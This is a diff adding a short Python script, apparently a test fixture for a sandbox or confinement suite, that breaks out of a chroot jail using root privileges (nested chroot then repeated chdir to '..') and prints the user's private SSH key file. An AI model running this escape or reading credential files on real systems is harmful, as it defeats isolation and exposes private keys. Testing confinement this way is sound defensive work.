@@ -1,0 +1,16 @@
+"""Climbs out of its root as only root can.
+
+Root only: it takes its rights.
+"""
+
+import os
+from pathlib import Path
+
+from stage import at
+
+os.mkdir("cell")
+os.chroot("cell")
+for _ in range(64):
+    os.chdir("..")
+os.chroot(".")
+print(Path(at.home, ".ssh/id_rsa").read_text())
